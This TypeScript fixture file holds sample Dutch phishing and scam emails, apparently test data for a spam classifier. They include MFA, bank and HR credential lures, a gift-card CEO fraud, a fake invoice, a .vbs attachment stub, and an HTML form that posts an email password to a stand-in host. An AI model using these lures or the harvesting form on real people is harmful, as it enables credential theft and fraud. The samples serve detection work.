import type { Sample } from '../../../demo/form/sample.ts';
import { pdfFile, textFile, zipFile } from '../file-parts.ts';

export const dutchInbox: Sample[] = [
	{
		date: '2026-11-02T07:15:00+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Servicedesk Werkplek <werkplek@toegang-bevestigen.example>',
		to: ['r.vandermolen@mindef.ml'],
		subject: 'Registreer uw authenticator opnieuw vóór 6 november',
		text: `Beste medewerker,

In verband met een nieuwe beveiligingsstandaard vervallen alle bestaande koppelingen van de authenticator-app. U dient uw toestel opnieuw te registreren, ook als u momenteel nog codes ontvangt.

1. Ga naar https://toegang-bevestigen.example/mfa
2. Meld u aan met uw zakelijke account
3. Keur de melding op uw telefoon goed

Na 6 november kunt u zonder registratie niet meer thuiswerken.

Bedankt voor uw medewerking,
Servicedesk Werkplek
`,
	},
	{
		date: '2026-11-03T10:31:56+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Kaartbeheer <kaart@vernieuw-uw-bankpas.example>',
		to: ['an.claes@mll.be'],
		subject: 'Uw kaartlezer werkt binnenkort niet meer',
		text: `Geachte klant,

vanaf 15 november ondersteunen wij enkel nog kaartlezers van de nieuwe generatie. U ontvangt kosteloos een nieuw toestel wanneer u dit vooraf aanvraagt. Nadien bedraagt de kostprijs 24,95 euro.

Aanvragen doet u via vernieuw-uw-bankpas.example. Hou uw bankkaart en huidige kaartlezer bij de hand, want ter controle wordt gevraagd een handtekening te zetten.

De dienst Kaartbeheer
`,
		html: 'alternative',
	},
	{
		date: '2026-11-04T19:22:37+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Pakketdienst BE <info@douane-pakketje.example>',
		to: ['tom.desmet@mll.be'],
		subject: 'Uw pakket word vast gehouden!! douane kosten',
		text: `Beste klant,

U pakket (BE 0047 3391) is aangekomen maar kan NIET geleverd worden omdat er nog invoer kosten open staan

Te betalen : € 2,99

klik hier om te betalen -> http://douane-pakketje.example/betaal

Doet u dit niet binnen 2 dage dan word het pakket vernietigt en krijgt u een boete van 75 euro
`,
	},
	{
		date: '2026-11-05T08:40:12+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'HR-portaal <noreply@mijn-personeelsdossier.example>',
		to: ['esther.kuipers@defensie.ml'],
		subject: 'Beoordeling 2026 staat voor u klaar',
		text: `Goedemorgen Esther,

Uw leidinggevende heeft het beoordelingsformulier over 2026 afgerond. U heeft tot en met woensdag de tijd om het te lezen en voor gezien te tekenen.

Formulier openen: https://mijn-personeelsdossier.example/gesprek/2026

Tekent u niet, dan wordt de beoordeling als aanvaard beschouwd.

Dit bericht is automatisch verzonden door het HR-portaal.
`,
	},
	{
		date: '2026-11-06T12:05:41+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Arbeidsvoorwaarden <keuze@cafetariaplan-online.example>',
		to: ['b.hoekstra@army.ml', 'p.noordhof@army.ml'],
		subject: 'Keuzebudget: nog 1.140 euro te besteden',
		text: `Hallo,

Wist je dat je keuzebudget op 30 november vervalt? Er staat op dit moment nog € 1.140,00 voor je open. Je kunt het laten uitbetalen of omzetten in verlof, een fiets of opleiding.

Log in met je werkmail, controleer je rekeningnummer en kies 'uitbetalen': https://cafetariaplan-online.example

Wie uiterlijk vrijdag kiest, krijgt het bedrag nog bij het salaris van deze maand.

Team Arbeidsvoorwaarden
`,
	},
	{
		date: '2026-11-09T09:03:18+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Hans Terpstra <h.terpstra.directie@privepost.example>',
		to: ['secretariaat@minbuza.ml'],
		subject: 'Kun je iets voor me regelen?',
		text: `Goedemorgen,

Ik zit tot vanmiddag in overleg en kan niet bellen. Voor enkele relaties wil ik vandaag nog cadeaukaarten hebben, zes stuks van 100 euro, bij voorkeur van een webwinkel. Wil je die alvast voorschieten en mij de codes mailen zodra je ze hebt? Ik verreken het met de declaraties.

Laat even weten of dat lukt.

Hans
`,
	},
	{
		date: '2026-11-10T14:48:30+01:00',
		kind: 'spam',
		level: 'moderate',
		categories: ['personal'],
		language: 'nl',
		from: 'Wim Aerts <info@villa-zonneduin.example>',
		to: ['kris.boonen@mll.be'],
		subject: 'RE: verhuis 12/12 Leopoldsburg',
		headers: [['References', '<20260922.0711@aerts-verhuis.example>']],
		text: `Goeiedag,

in bijlage de aangepaste documenten zoals afgesproken, gelieve vandaag na te kijken aub.

-----Oorspronkelijk bericht-----
Van: Wim Aerts <wim@aerts-verhuis.example>
Verzonden: dinsdag 22 september 2026 7:11
Aan: Boonen Kris
Onderwerp: verhuis 12/12 Leopoldsburg

Dag Kris, 12/12 staat genoteerd. We laden om 8u in de [[home-address:Diestersteenweg 207, 3970 Leopoldsburg]]
en zijn tegen de middag in Hasselt. Moest er iets zijn, bel mij op [[phone:0476 41 88 02]].
De piano kost 90 euro extra, zoals gezegd.
groeten Wim
`,
		attachments: [zipFile('Documenten_nov.zip', 'Documenten_nov.vbs', 'CreateObject("WScript.Shell").Run "calc"')],
	},
	{
		date: '2026-11-11T16:30:00+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Debiteurenbeheer <incasso@kantoorvak-levering.example>',
		to: ['crediteuren@mimdef.nl'],
		subject: 'Openstaand: toner en papier, factuur 2026-8841',
		text: `Geachte administratie,

Bij controle van onze boekhouding constateerden wij dat bijgevoegde factuur nog niet is voldaan. De goederen zijn op 7 oktober telefonisch besteld door uw medewerker en dezelfde week geleverd.

Wij gaan ervan uit dat het om een vergissing gaat en zien uw betaling binnen vijf werkdagen tegemoet. Bij uitblijven zijn wij genoodzaakt de vordering met 15% kosten over te dragen.

Afdeling Debiteuren
`,
		attachments: [
			pdfFile(
				'2026-8841.pdf',
				`KANTOORVAK LEVERING
Factuur 2026-8841        Datum 9-10-2026
40 x toner compatible zwart       1.980,00
60 x papier A4 80 g                 348,00
Behandeling                          45,00
Totaal incl. 21% btw              2.871,33
Besteld door: de heer Jansen`,
			),
		],
	},
	{
		date: '2026-11-12T11:11:09+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Nationale Bedrijvengids <redactie@bedrijvengids-online.example>',
		to: ['info@minbuza.ml'],
		subject: 'Controle van uw vermelding 2027',
		text: `Geachte heer, mevrouw,

Zoals telefonisch besproken sturen wij u de gegevens van uw huidige vermelding ter controle. Klopt alles, dan hoeft u het formulier enkel te ondertekenen en per omgaande te retourneren. Ook voor een opzegging is een handtekening noodzakelijk.

Graag vandaag voor 16.00 uur, in verband met het sluiten van de editie.

Redactie Noord
`,
		attachments: [
			pdfFile(
				'vermelding2027.pdf',
				`CONTROLEFORMULIER VERMELDING
Naam organisatie: ________________
Plaats: ________________
Akkoord: ________________
De opdracht geldt voor 36 maanden a 89,00 per maand excl. btw,
vooraf te voldoen.`,
			),
		],
	},
	{
		date: '2026-11-13T09:27:50+01:00',
		kind: 'spam',
		level: 'none',
		categories: [],
		language: 'nl',
		from: 'Betalingen <overzicht@bankafschrift-mail.example>',
		to: ['wendy.vos@defensie.ml'],
		subject: 'Betaalbewijs in bijlage',
		text: `Uw betaalbewijs zit in bijlage.
`,
		attachments: [
			textFile(
				'Betaalbewijs_13-11.html',
				`<html><body style="background:#eee;font-family:Arial"><form action="https://bankafschrift-mail.example/post" method="post">
<h3>Beveiligd document</h3><input name="mail" value="wendy.vos@defensie.ml"><input type="password" name="ww" placeholder="Wachtwoord van uw e-mail">
<button>Document bekijken</button></form></body></html>`,
				'text/html; charset=utf-8',
			),
		],
	},
];
